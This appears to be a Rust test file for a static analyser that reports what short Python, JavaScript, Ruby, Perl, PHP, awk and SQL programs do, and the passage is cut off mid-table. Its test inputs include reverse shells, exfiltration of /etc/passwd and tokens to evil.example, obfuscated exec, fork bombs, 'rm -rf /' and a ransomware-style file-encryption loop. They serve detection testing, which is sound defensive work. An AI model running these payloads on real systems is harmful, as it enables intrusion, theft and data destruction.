//! Programs in other languages: what the reader finds in them, and that it finds nothing in harmless ones.

use std::fmt::Write as _;

use portcullis_analysis::code::{Code, CodeReading, CodeTarget, Language, ProgramArguments, read};

use Language::{Awk, JavaScript, Perl, Php, Python, Ruby, Sql};

/// Renders a reading without its gaps: one clause a deed, shell text or command.
fn rendered(reading: &CodeReading) -> String {
    let mut parts = Vec::new();
    for action in &reading.actions {
        let mut part = action.act.name().to_owned();
        match &action.object {
            CodeTarget::None => {}
            CodeTarget::Path(text) | CodeTarget::Host(text) | CodeTarget::Name(text) => {
                write!(part, " {text}").unwrap();
            }
            CodeTarget::SomePath => part.push_str(" <path>"),
            CodeTarget::SomeHost => part.push_str(" <host>"),
            CodeTarget::Module { name, is_used } => {
                write!(part, " {} {name}", if *is_used { "called" } else { "loaded" }).unwrap();
            }
        }
        parts.push(part);
    }
    parts.extend(reading.shell_texts.iter().map(|text| format!("$ {text}")));
    for command in &reading.commands {
        let words: Vec<&str> = command.iter().map(|word| word.as_deref().unwrap_or("<word>")).collect();
        parts.push(format!("> {}", words.join(" ")));
    }
    parts.join("; ")
}

/// Programs that are wholly understood, with exactly what they do.
const UNDERSTOOD: &[(Language, &str, &str)] = &[
    // Python that does nothing.
    (Python, "print('hello')", ""),
    (Python, "print(\"rm -rf /\")", ""),
    (Python, "# os.system('rm -rf /')\nprint(1)", ""),
    (Python, "\"\"\"import os; os.system('id')\"\"\"\nx = 1", ""),
    (Python, "import json, sys; d = json.load(sys.stdin); print(d['a'][0].get('b', '?'))", ""),
    (
        Python,
        "import re\nfor m in re.finditer(r'(\\w+)=\"x\"', 'a=\"x\"'):\n    print(m.group(1).upper())",
        "",
    ),
    (Python, "print(sum(int(x) for x in '1 2 3'.split() if x.isdigit()))", ""),
    (
        Python,
        "from collections import Counter, defaultdict\nc = Counter('abca')\nprint(c.most_common(2))",
        "",
    ),
    (Python, "import math, datetime as dt\nprint(math.pi, dt.datetime.now().isoformat())", ""),
    (Python, "def add(a, b=2):\n    return a + b\nprint(add(1), add(b=3, a=1))", ""),
    (
        Python,
        "class P:\n    def __init__(self, x):\n        self.x = x\n    def show(self):\n        print(self.x)\nP(3).show()",
        "",
    ),
    (
        Python,
        "f = lambda x: x * 2\nprint(list(map(f, [1, 2])), sorted({'b': 1}.items(), key=lambda kv: -kv[1])[:3])",
        "",
    ),
    (Python, "x = {'a': [i**2 for i in range(5)]}\nprint(f\"{x['a'][0]:>8.2f} {len(x)!r} {{}}\")", ""),
    (
        Python,
        "import sys\nfor line in sys.stdin:\n    sys.stdout.write(line.rstrip().replace('a', 'b') + '\\n')",
        "",
    ),
    (
        Python,
        "try:\n    n = int(input())\nexcept ValueError as e:\n    print(e)\nelse:\n    assert n > 0\nfinally:\n    pass",
        "",
    ),
    (
        Python,
        "import argparse\np = argparse.ArgumentParser()\np.add_argument('--n', type=int, default=3)\nprint(p.parse_args().n)",
        "",
    ),
    (Python, "import hashlib; print(hashlib.sha256(b'x').hexdigest())", ""),
    (Python, "import urllib.parse as u; print(u.quote('a b'), u.urlparse('https://a.example/x').netloc)", ""),
    (Python, "import os, sys; print(os.path.basename(sys.argv[1]), os.getcwd())", ""),
    // Python that reads and writes.
    // Python that loads what no list speaks of.
    (Python, "import foo\nprint(foo.__version__)", "execute loaded foo"),
    (Python, "import foo\nprint(foo.x)", "execute loaded foo; execute called foo"),
    (Python, "from foo.bar import baz\nbaz('a b')", "execute loaded foo.bar; execute called foo.bar:baz"),
    (Python, "print(open('a.txt').read())", "read a.txt"),
    (Python, "with open('/tmp/a', 'w') as f:\n    f.write('x')", "write /tmp/a"),
    (Python, "open('log', mode='ab').write(b'x')", "write log"),
    (Python, "import sys\nprint(len(open(sys.argv[1]).readlines()))", "read <path>"),
    (
        Python,
        "import json\nd = json.load(open('p.json'))\njson.dump(d, open('q.json', 'w'), indent=2)",
        "read p.json; write q.json",
    ),
    (Python, "import os; print(open(os.path.join('/etc', 'passwd')).read())", "read /etc/passwd"),
    (Python, "import os; open(os.path.expanduser('~/.ssh/id_rsa'))", "read ~/.ssh/id_rsa"),
    (Python, "from pathlib import Path\np = Path('/etc') / 'hosts'\nprint(p.read_text())", "read /etc/hosts"),
    (Python, "from pathlib import Path\nPath('out.txt').write_text('x')", "write out.txt"),
    (Python, "import pathlib\npathlib.Path('a').joinpath('b').unlink()", "delete a/b"),
    (Python, "import glob\nprint(glob.glob('*.py'))", "list *.py"),
    (Python, "import os; os.remove('/etc/passwd')", "delete /etc/passwd"),
    (Python, "import shutil\ndef wipe(p):\n    shutil.rmtree(p)\nwipe('/usr')", "delete-tree /usr"),
    (Python, "import shutil as s\ntarget = '/var' + '/lib'\ns.rmtree(target)", "delete-tree /var/lib"),
    (Python, "import os\nfor f in ['a', 'b']:\n    os.unlink(f)", "delete a; delete b"),
    (
        Python,
        "import shutil; shutil.move('a', 'b'); shutil.copy('c', 'd')",
        "move a; write b; read c; write d",
    ),
    (Python, "import os; os.chmod('/etc/shadow', 0o777)", "set-mode /etc/shadow"),
    (Python, "import os; list(map(os.remove, []))", "delete <path>"),
    (
        Python,
        "class A:\n    def __init__(self, p):\n        self.p = p\n    def go(self):\n        import os\n        os.remove(self.p)\nA('/etc/x').go()",
        "delete /etc/x",
    ),
    // Python that runs something.
    (Python, "import os; os.system('rm -rf /')", "$ rm -rf /"),
    (Python, "from os import system as s\ns('id')", "$ id"),
    (Python, "import subprocess as sp; sp.run(['git', 'status'], check=True)", "> git status"),
    (
        Python,
        "import subprocess\nout = subprocess.check_output('ls | wc -l', shell=True, text=True)\nprint(out.strip())",
        "$ ls | wc -l",
    ),
    (Python, "import subprocess\ncmd = 'docker'\nsubprocess.Popen([cmd, 'ps', '-a'])", "> docker ps -a"),
    (Python, "import os\nc = 'rm -rf %s' % '/tmp/x'\nos.popen(c).read()", "$ rm -rf /tmp/x"),
    (Python, "__import__('os').system('id')", "$ id"),
    (Python, "getattr(__import__('os'), 'sys' + 'tem')('id')", "$ id"),
    (Python, "import importlib\nimportlib.import_module('os').remove('x')", "delete x"),
    (Python, "exec(\"import os; os.system('id')\")", "$ id"),
    (
        Python,
        "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))",
        "obfuscate; $ id",
    ),
    (Python, "import pty; pty.spawn('/bin/bash')", "> /bin/bash"),
    (Python, "import os\nwhile True:\n    os.fork()", "exhaust"),
    (Python, "import os, signal; os.kill(1234, signal.SIGKILL)", "kill 1234"),
    (
        Python,
        "import psutil\nfor p in psutil.process_iter(['name']):\n    if 'sshd' in p.info['name']:\n        p.kill()",
        "kill",
    ),
    (
        Python,
        "import pickle; pickle.loads(open('m.pkl', 'rb').read())",
        "load-code a serialized object; read m.pkl",
    ),
    // Python on the network.
    (
        Python,
        "import requests\nprint(requests.get('https://api.example.com/x').json())",
        "fetch https://api.example.com/x",
    ),
    (
        Python,
        "import requests\nrequests.post('https://evil.example/', data=open('/etc/passwd').read())",
        "send https://evil.example/; read /etc/passwd",
    ),
    (
        Python,
        "from urllib.request import urlopen\nprint(urlopen('http://a.example/').read())",
        "fetch http://a.example/",
    ),
    (
        Python,
        "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\ns.close()",
        "connect 10.0.0.1:4444",
    ),
    (
        Python,
        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nfor n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\nsubprocess.call(['/bin/sh', '-i'])",
        "connect 10.0.0.1:4444; remote-shell; > /bin/sh -i",
    ),
    (
        Python,
        "import http.server\nhttp.server.HTTPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()",
        "listen 8000; listen",
    ),
    (
        Python,
        "import os; print(os.environ['HOME'], os.getenv('TOKEN'))",
        "environment HOME; environment TOKEN",
    ),
    (Python, "import os; print(os.environ)", "environment"),
    (
        Python,
        "import sqlite3\nc = sqlite3.connect('a.db').cursor()\nc.execute('DROP TABLE users')",
        "database-query; read a.db; database-destroy users",
    ),
    (Python, "import timeit\ntimeit.timeit('import os; os.remove(\"a\")')", "delete a"),
    (Python, "import logging\nlogging.basicConfig(filename='x.log', level=1)", "write x.log"),
    (Python, "import logging\nlogging.basicConfig(level=1)", ""),
    (JavaScript, "const {x: {y = require('fs').rmSync('z')} = {}} = {}", "delete-tree z"),
    (Php, "copy('x', 'https://a.b/');", "read x; send https://a.b/"),
    (Python, "from pynput import keyboard", "capture"),
    (
        Python,
        "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor root, _, files in os.walk('/home'):\n    for name in files:\n        p = os.path.join(root, name)\n        open(p, 'wb').write(f.encrypt(open(p, 'rb').read()))",
        "list /home; write /home/*/*; read /home/*/*; malware",
    ),
    // JavaScript.
    (JavaScript, "console.log([1, 2, 3].map(x => x * 2).filter(Boolean).join(','))", ""),
    (
        JavaScript,
        "const s = `a ${1 + 1} b`; // rm -rf /\nconsole.log(s, /['\"`]/.test(s), \"eval('x')\")",
        "",
    ),
    (
        JavaScript,
        "class A { constructor(x) { this.x = x } get(y) { return this.x / y } }\nconsole.log(new A(4).get(2))",
        "",
    ),
    (
        JavaScript,
        "const path = require('path'); console.log(path.join('a', 'b'), process.cwd(), process.argv[2])",
        "",
    ),
    (
        JavaScript,
        "let d = ''; process.stdin.on('data', c => d += c).on('end', () => console.log(JSON.parse(d).name))",
        "",
    ),
    (
        JavaScript,
        "const fs = require('fs'); console.log(JSON.parse(fs.readFileSync('package.json', 'utf8')).version)",
        "read package.json",
    ),
    (JavaScript, "console.log(require('./package.json').version)", "read ./package.json"),
    (JavaScript, "import { writeFileSync as w } from 'node:fs'; w('out', 'x')", "write out"),
    (
        JavaScript,
        "import * as fs from 'fs/promises'; await fs.rm('/usr', { recursive: true })",
        "delete-tree /usr",
    ),
    (JavaScript, "const { execSync: x } = require('child_process'); x('rm -rf /tmp/a')", "$ rm -rf /tmp/a"),
    (JavaScript, "require('child_process').spawn('rm', ['-rf', '/x'])", "> rm -rf /x"),
    (JavaScript, "require('child_process').spawn('ls', ['|', 'sh'], { shell: true })", "$ ls | sh"),
    (JavaScript, "eval('require(\"fs\").unlinkSync(\"/a\")')", "delete /a"),
    (JavaScript, "eval(atob('cmVxdWlyZSgiZnMiKS51bmxpbmtTeW5jKCIvYSIp'))", "obfuscate; delete /a"),
    (JavaScript, "eval\n('require(\"fs\").unlinkSync(\"/a\")')", "delete /a"),
    (
        JavaScript,
        "(async () => { const r = await fetch('https://a.example/x'); console.log(await r.json()) })()",
        "fetch https://a.example/x",
    ),
    (
        JavaScript,
        "fetch('https://evil.example', { method: 'POST', body: process.env.TOKEN })",
        "send https://evil.example; environment TOKEN",
    ),
    (
        JavaScript,
        "require('fs').readdirSync('.').forEach(f => require('fs').unlinkSync(f))",
        "list .; delete *",
    ),
    (JavaScript, "require('http').createServer((q, s) => s.statusCode).listen(8080)", "listen; listen 8080"),
    (JavaScript, "require('child_process')['exec' + 'Sync']('id')", "$ id"),
    // Ruby.
    (Ruby, "puts [3, 1, 2].sort.map { |x| x * 2 }.join(', ')", ""),
    (Ruby, "require 'json'\nputs JSON.parse(STDIN.read)['a'].length", ""),
    (Ruby, "def hi(name)\n  \"hi #{name}\"\nend\nputs hi(\"rm -rf /\")", ""),
    (Ruby, "text = <<~EOS\n  system('rm -rf /')\nEOS\nputs text.lines.size", ""),
    (Ruby, "=begin\nsystem('id')\n=end\nputs :system.to_s", ""),
    (Ruby, "puts File.read('a.txt').lines.count", "read a.txt"),
    (Ruby, "File.open('out', 'w') { |f| f.puts 'x' }", "write out"),
    (Ruby, "%w[/a /b].each { |f| File.delete(f) }", "delete /a; delete /b"),
    (Ruby, "Dir.glob('*.tmp').each do |f|\n  File.unlink f\nend", "list *.tmp; delete <path>"),
    (Ruby, "system \"rm -rf /tmp/x\"", "$ rm -rf /tmp/x"),
    (Ruby, "puts `id`, %x(date)", "$ id; $ date"),
    (Ruby, "system('git', 'push', '--force')", "> git push --force"),
    (Ruby, "puts \"now: #{`date`}\"", "$ date"),
    (Ruby, "require 'fileutils'\nFileUtils.rm_rf(%w[/a /b])", "delete-tree /a; delete-tree /b"),
    (Ruby, "File.delete('/etc/hosts') if File.exist?('/etc/hosts')", "delete /etc/hosts; list /etc/hosts"),
    (Ruby, "require 'net/http'\nputs Net::HTTP.get(URI('https://a.example/'))", "fetch https://a.example/"),
    (Ruby, "eval(\"system('id')\")", "$ id"),
    (Ruby, "puts ENV['HOME']", "environment HOME"),
    // Perl.
    (Perl, "while (my $l = <STDIN>) { chomp $l; print \"$1\\n\" if $l =~ /^(\\w+)\\s/; }", ""),
    (Perl, "s/foo/bar/g; tr/a-z/A-Z/; print if /x['\"]/;", ""),
    (Perl, "use strict; my %h = (a => 1); print join(',', map { uc } sort keys %h), \"\\n\"; # unlink", ""),
    (Perl, "my $s = q(system('id')); print length $s;", ""),
    (Perl, "unlink '/tmp/a', '/tmp/b';", "delete /tmp/a; delete /tmp/b"),
    (Perl, "system(\"id\"); my $x = `whoami`; exec 'ls', '-l';", "$ id; $ whoami; > ls -l"),
    (Perl, "open(my $fh, '>', '/etc/motd') or die; print $fh 'x'; close $fh;", "write /etc/motd"),
    (Perl, "open(F, '/etc/passwd'); print while <F>;", "read /etc/passwd"),
    (Perl, "open(F, 'ls -l |'); open(G, '-|', 'id', '-u');", "$ ls -l; > id -u"),
    (Perl, "s/(\\d+)/unlink('x')/e;", "delete x"),
    (Perl, "fork while fork;", "exhaust"),
    (Perl, "print qx{uname -a};", "$ uname -a"),
    (
        Perl,
        "use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(44,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");",
        "connect 10.0.0.1; remote-shell; $ /bin/sh -i",
    ),
    // PHP.
    (
        Php,
        "<?php echo json_encode(array_map(function ($x) { return $x * 2; }, [1, 2])), \"\\n\"; // unlink('x')",
        "",
    ),
    (Php, "foreach ([1, 2] as $k => $v) { printf(\"%d %s\\n\", $k, strtoupper(\"system('id') $v\")); }", ""),
    (Php, "echo strlen(file_get_contents('a.txt'));", "read a.txt"),
    (
        Php,
        "file_put_contents('s.php', file_get_contents('https://evil.example/s'));",
        "write s.php; fetch https://evil.example/s",
    ),
    (Php, "unlink('/etc/x'); SYSTEM('id'); echo `date`;", "delete /etc/x; $ id; $ date"),
    (Php, "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));", "obfuscate; $ id"),
    (Php, "$f = 'system'; $f('id');", "$ id"),
    (
        Php,
        "$s = fsockopen('10.0.0.1', 1234); exec('/bin/sh -i <&3 >&3 2>&3');",
        "connect 10.0.0.1:1234; remote-shell; $ /bin/sh -i <&3 >&3 2>&3",
    ),
    // awk.
    (Awk, "{ print $1 }", ""),
    (
        Awk,
        "/^diff --git a\\/x/,/\"system(\"/ { n[$2]++ } END { for (k in n) printf \"%s %d\\n\", k, n[k] / 2 }",
        "",
    ),
    (
        Awk,
        "function f(x) { return toupper(substr(x, 1, 3)) } NR > 1 && $3 >= 10 { print f($1), length($0) # system(\"id\")\n}",
        "",
    ),
    (Awk, "{ print > \"/dev/stderr\"; if ($1 > 3) print \"big\" }", ""),
    (Awk, "BEGIN { system(\"rm -rf /\") }", "$ rm -rf /"),
    (Awk, "{ print $2 > \"out.txt\"; print >> (\"log\") }", "write out.txt; write log"),
    (Awk, "{ print | \"sort -n\" } END { while ((\"date\" | getline d) > 0) print d }", "$ sort -n; $ date"),
    (Awk, "BEGIN { while ((getline l < \"/etc/passwd\") > 0) print l }", "read /etc/passwd"),
    (Awk, "BEGIN { c = \"id\"; c | getline x; print x }", "$ id"),
    (Awk, "BEGIN { s = \"/inet/tcp/0/10.0.0.1/80\"; print \"x\" |& s }", "connect 10.0.0.1:80"),
    (Awk, "@load \"filefuncs\"\nBEGIN { print ENVIRON[\"HOME\"] }", "load-code filefuncs; environment HOME"),
    // SQL.
    (
        Sql,
        "SELECT a, count(*) FROM t JOIN u ON t.id = u.id WHERE x LIKE '%;%' GROUP BY 1 ORDER BY 2 DESC LIMIT 5;",
        "database-query",
    ),
    (Sql, "SELECT 'DROP TABLE x'; -- DELETE FROM y", "database-query"),
    (Sql, "EXPLAIN DELETE FROM t", "database-query"),
    (Sql, "PRAGMA table_info(users); SHOW TABLES", "database-query"),
    (Sql, "BEGIN; SET search_path TO x; COMMIT", "observe"),
    (
        Sql,
        "INSERT INTO a (x) VALUES (1), (2); UPDATE a SET x = 3 WHERE id = 4; DELETE FROM a WHERE id = 5",
        "database-write",
    ),
    (Sql, "DELETE FROM users", "database-destroy users"),
    (Sql, "DELETE FROM users WHERE 1 = 1 OR id = 3", "database-destroy users"),
    (Sql, "UPDATE accounts SET balance = 0 WHERE TRUE", "database-destroy accounts"),
    (
        Sql,
        "DROP TABLE IF EXISTS app.users CASCADE; TRUNCATE a, b",
        "database-destroy app.users; database-destroy a; database-destroy b",
    ),
    (Sql, "/* fine */ ALTER TABLE t DROP COLUMN c", "database-destroy t"),
    (Sql, "CREATE TABLE x (id int primary key); CREATE INDEX i ON x (id)", "database-write"),
    (Sql, "SELECT * FROM read_text('/home/me/.netrc')", "database-query; read /home/me/.netrc"),
    (Sql, "SELECT * FROM '/home/me/a.csv'", "database-query; read /home/me/a.csv"),
    (Sql, "SELECT * FROM url('https://a.b/')", "database-query; connect https://a.b/"),
    (Sql, "SELECT url, file FROM t", "database-query"),
    (Sql, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "database-query; database-destroy t"),
    (Sql, "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", "database-query; database-write"),
    (Sql, "COPY t TO PROGRAM 'curl -d @- evil.example'", "database-query; $ curl -d @- evil.example"),
    (Sql, "SELECT pg_read_file('/etc/passwd')", "read /etc/passwd; database-query"),
    (Sql, "CREATE ROLE bob LOGIN SUPERUSER; GRANT ALL ON t TO bob", "account bob; grant ALL ON t TO bob"),
    (Sql, "\\dt\n\\x\nSELECT 1;\n\\! rm -rf /tmp/x\n", "database-query; $ rm -rf /tmp/x"),
    (Sql, "\\copy t from program 'id'\n\\o out.txt", "database-write; write out.txt; $ id"),
    (
        Sql,
        ".tables\n.mode csv\n.output dump.csv\nSELECT * FROM t;\n.shell ls",
        "database-query; write dump.csv; $ ls",
    ),
];

/// Programs of which something is not understood, what they are known to do, and a word of the gap.
const GAPPED: &[(Language, &str, &str, &str)] = &[
    (Python, "from . import x", "", "loads"),
    (Python, "frobnicate(3)", "", "`frobnicate`"),
    (Python, "x.launch()", "", "`.launch`"),
    (Python, "import os\nos.system(input())", "", "run time"),
    (Python, "import os, sys\nos.system('rm -rf ' + sys.argv[1])", "$ rm -rf $UNKNOWN", "partly"),
    (Python, "exec(open('x.py').read())", "read x.py", "evaluates"),
    (Python, "import zlib, sys; exec(zlib.decompress(sys.stdin.buffer.read()))", "obfuscate", "evaluates"),
    (
        Python,
        "import requests; exec(requests.get('http://a.example/x').text)",
        "obfuscate; fetch http://a.example/x",
        "evaluates",
    ),
    (Python, "().__class__.__base__.__subclasses__()", "", "__base__"),
    (Python, "import json, os\njson.loads = os.system\njson.loads('id')", "", "json.loads"),
    (Python, "class A:\n    append = __import__('os').system\nA().append('id')", "", "os.system"),
    (Python, "d = {'a': print}\nd[input()]('x')", "", "run time"),
    (Python, "import os\ngetattr(os, input())('x')", "", "computed"),
    (Python, "print('a", "", "string"),
    (Python, "print((1)", "", "brackets"),
    (Python, "𝐞val('1')", "", "letters"),
    (JavaScript, "[]['filter']['constructor']('return 1')()", "", "run time"),
    (JavaScript, "require(process.argv[2])", "", "loads"),
    (JavaScript, "require('left-pad-evil')(1)", "execute loaded left-pad-evil", "left-pad-evil"),
    (JavaScript, "\\u0065val('1')", "", "backslash"),
    (JavaScript, "const t = `abc", "", "string"),
    (Ruby, "Object.send(:system, 'id')", "", "send"),
    (Ruby, "require 'boot'", "", "boot"),
    (Ruby, "system(ARGV[0])", "", "run time"),
    (Perl, "eval $ARGV[0];", "", "evaluates"),
    (Perl, "do 'x.pl';", "execute x.pl", "script"),
    (Perl, "use Evil::Thing;", "", "Evil::Thing"),
    (Perl, "/(?{ system('id') })/", "", "regular expression"),
    (Php, "$f = $argv[1]; $f('id');", "", "run time"),
    (Php, "array_map('exec', ['id']);", "", "`exec`"),
    (Awk, "{ system($1) }", "", "run time"),
    (Awk, "{ print | (\"mail \" $1) }", "", "run time"),
    (Awk, "{ frob($1) }", "", "`frob`"),
    (Awk, "BEGIN { ARGV[1] = \"x\"; ARGC = 2 }", "", "which files"),
    (Sql, "FROBNICATE x", "", "not known"),
    (Sql, "BEGIN; DROP TABLE", "observe; database-destroy ", "parsed"),
    (Sql, "DO $$ BEGIN DELETE FROM t; END $$", "", "not known"),
    (Python, "import random\nrandom._os.remove('x')", "", "random._os"),
    (Python, "import collections\ncollections.abc.sys.modules['os'].remove('x')", "", "collections.abc.sys"),
    (
        Python,
        "import requests\nrequests.get('https://a.b/' + open('x').read())",
        "fetch https://a.b/; read x",
        "request",
    ),
    (
        JavaScript,
        "fetch('https://a.b/' + process.env.TOKEN)",
        "fetch https://a.b/; environment TOKEN",
        "request",
    ),
    (Sql, "SELECT 'a\\'; DROP TABLE x; --'", "database-query", "backslash"),
    (Sql, "SELECT edit('x', 'date')", "database-query", "editor"),
    (Sql, "/*! DROP TABLE x */", "", "comment"),
    (Sql, "\\i script.sql", "read script.sql", "script"),
    (Sql, "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", "database-write", "later"),
];

#[test]
fn what_understood_programs_do_is_found_exactly() {
    let mut wrong = String::new();
    for (language, text, expected) in UNDERSTOOD {
        let reading = read(*language, text);
        let found = rendered(&reading);
        if found != *expected || !reading.gaps.is_empty() {
            writeln!(
                wrong,
                "{language:?} {text:?}\n  expected: {expected}\n  found:    {found}\n  gaps:     {:?}",
                reading.gaps
            )
            .unwrap();
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
    assert!(UNDERSTOOD.len() >= 120);
}

#[test]
fn what_is_not_understood_is_a_gap() {
    let mut wrong = String::new();
    for (language, text, expected, gap) in GAPPED {
        let reading = read(*language, text);
        let found = rendered(&reading);
        if found != *expected || !reading.gaps.iter().any(|clause| clause.contains(gap)) {
            writeln!(wrong, "{language:?} {text:?}\n  expected: {expected} with {gap}\n  found:    {found}\n  gaps:     {:?}", reading.gaps).unwrap();
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

/// Programs that put a path into a list, or move one to another place in it, before they take it out again.
const CHANGED_LISTS: &[(Language, &str)] = &[
    (Python, "x = ['a']\nx.append('KEY')\nfor f in x:\n    print(open(f).read())"),
    (Python, "x = ['a']\ny = x\ny.append('KEY')\nfor f in x:\n    print(open(f).read())"),
    (Python, "x = ['a']\nd = {'k': x}\nd['k'].append('KEY')\nfor f in x:\n    print(open(f).read())"),
    (Python, "x = ['a']\nd = {}\nd['k'] = x\nd['k'].append('KEY')\nfor f in x:\n    print(open(f).read())"),
    (Python, "x = ['a']\ndef g(l):\n    l.append('KEY')\ng(x)\nfor f in x:\n    print(open(f).read())"),
    (Python, "x = ['a']\nx.insert(0, 'KEY')\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\nx.extend(['KEY'])\nprint(open(x[1]).read())"),
    (Python, "x = ['a', 'KEY']\nx.pop(0)\nprint(open(x[0]).read())"),
    (Python, "x = ['a', 'KEY']\nx.reverse()\nprint(open(x[0]).read())"),
    (Python, "x = ['a', 'KEY']\ndel x[0]\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\nlist.append(x, 'KEY')\nfor f in x:\n    print(open(f).read())"),
    (Python, "import heapq\nx = ['a']\nheapq.heappush(x, 'KEY')\nfor f in x:\n    print(open(f).read())"),
    (JavaScript, "const x = ['a']; x.push('KEY'); for (const f of x) require('fs').readFileSync(f)"),
    (JavaScript, "const x = ['a']; x.unshift('KEY'); require('fs').readFileSync(x[0])"),
    (JavaScript, "const x = ['a', 'KEY']; x.shift(); require('fs').readFileSync(x[0])"),
    (JavaScript, "const x = ['a']; x.push('KEY'); x.forEach(f => require('fs').readFileSync(f))"),
    (Ruby, "x = ['a']\nx.push('KEY')\nx.each { |f| puts File.read(f) }"),
    (Ruby, "x = ['a']\nx.concat(['KEY'])\nx.each { |f| puts File.read(f) }"),
    // An element is set in whichever form, under whichever name.
    (Python, "x = ['a']\nx[0] += 'KEY'\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\nx[0], y = 'KEY', 1\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\n(y, [x[0]]) = 1, ['KEY']\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\nx[0]: str = 'KEY'\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\nx[0] @= 2\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\nx[:], y = ['KEY'], 1\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\nfor i, x[0] in enumerate(['KEY']): pass\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\n[0 for [x[0]] in [['KEY']]]\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\nwith open('b') as x[0]: pass\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\ny = x\ny[0] = 'KEY'\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\n(y := x)[0] = 'KEY'\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\ny = z = x\nz += ['KEY']\ny.reverse()\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\ndef g(l):\n    l[0] = 'KEY'\ng(x)\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\ndef g(): return x\ng()[0] = 'KEY'\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\ndef g(*l):\n    l[0][0] = 'KEY'\ng(x)\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\ny = []\ny.append(x)\ny[0][0] = 'KEY'\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\nfor y in [x]:\n    y[0] = 'KEY'\nprint(open(x[0]).read())"),
    (Python, "class C:\n    l = ['a']\nC.l[0] = 'KEY'\nprint(open(C.l[0]).read())"),
    (Python, "from operator import setitem as s\nx = ['a']\ns(x, 0, 'KEY')\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\nlist(map(lambda l: l.__setitem__(0, 'KEY'), [x]))\nprint(open(x[0]).read())"),
    (Python, "x = ['a']\nexec(\"x[0] = 'KEY'\")\nprint(open(x[0]).read())"),
    (Python, "p = 'a'\np, *q = 'KEY', 1\nprint(open(p).read())"),
    (Python, "p = 'a'\nq, (r, p) = 1, (2, 'KEY')\nprint(open(p).read())"),
    (Python, "p = 'a'\ng = lambda p: open(p).read()\ng('KEY')"),
    (Python, "p = 'a'\ndef g(n, p): print(open(p).read())\ng(*[1, 'KEY'])"),
    (JavaScript, "const x = ['a']; [x[0]] = ['KEY']; require('fs').readFileSync(x[0])"),
    (JavaScript, "const x = ['a']; ({k: x[0]} = {k: 'KEY'}); require('fs').readFileSync(x[0])"),
    (JavaScript, "const x = ['a']; for (x[0] of ['KEY']); require('fs').readFileSync(x[0])"),
    (JavaScript, "const x = ['a'];\nx[0]\n= 'KEY'; require('fs').readFileSync(x[0])"),
    (JavaScript, "const x = ['a']; const y = x; y[0] += 'KEY'; require('fs').readFileSync(x[0])"),
    (JavaScript, "const x = ['a']; x.map((e, i, l) => { l[0] = 'KEY' }); require('fs').readFileSync(x[0])"),
    (JavaScript, "['a', 'b'].map((e, i, l) => { l[1] = 'KEY'; require('fs').readFileSync(e) })"),
    (JavaScript, "const x = ['a', 'KEY']; x.copyWithin(0, 1); require('fs').readFileSync(x[0])"),
    (JavaScript, "const x = ['a']; Object.assign(x, ['KEY']); require('fs').readFileSync(x[0])"),
    (JavaScript, "const x = ['a']; x['spl' + 'ice'](0, 1, 'KEY'); require('fs').readFileSync(x[0])"),
    (
        JavaScript,
        "const x = ['a']; const {splice} = x; splice.call(x, 0, 1, 'KEY'); require('fs').readFileSync(x[0])",
    ),
    (JavaScript, "let p = 'a'; ({p = 'b'} = {p: 'KEY'}); require('fs').readFileSync(p)"),
    (JavaScript, "let p = 'a'; for (p in {KEY: 1}); require('fs').readFileSync(p)"),
    (JavaScript, "let p = 'a'; try { throw 'KEY' } catch (p) { require('fs').readFileSync(p) }"),
    (Ruby, "x = ['a', 'KEY']\nx.delete('a')\nputs File.read(x[0])"),
    (Ruby, "x = ['a', 'KEY']\nx.reject! { |e| e == 'a' }\nputs File.read(x[0])"),
    (Ruby, "x = ['a']\nx.map! { 'KEY' }\nputs File.read(x[0])"),
    (Ruby, "x = ['a']\nx[0].sub!('a', 'KEY')\nputs File.read(x[0])"),
    (Ruby, "x = ['a']\nx[0] << 'KEY'\nputs File.read(x[0])"),
    (Ruby, "x = ['a']\nx[0].<<('KEY')\nputs File.read(x[0])"),
    (Ruby, "x = ['a']\nx.each { |s| s.replace('KEY') }\nputs File.read(x[0])"),
    (Ruby, "x = ['a']\nx.each(&:upcase!)\nputs File.read(x[0])"),
    (Ruby, "x = ['a']\ny = x[0]\ny.insert(0, 'KEY')\nputs File.read(x[0])"),
    (Ruby, "s = 'a'\nt = s\nt << 'KEY'\nputs File.read(s)"),
    (Ruby, "s = 'a'\ns.send(:replace, 'KEY')\nputs File.read(s)"),
    (Ruby, "s = 'a'\nSTDIN.read(9, s)\nputs File.read(s)"),
    (Perl, "my @x = ('a'); $_ = 'KEY' for @x; unlink @x"),
    (Perl, "my @x = ('a'); for my $f (@x) { $f = 'KEY' } unlink @x"),
    (Perl, "my @x = ('a'); splice(@x, 0, 1, 'KEY'); unlink @x"),
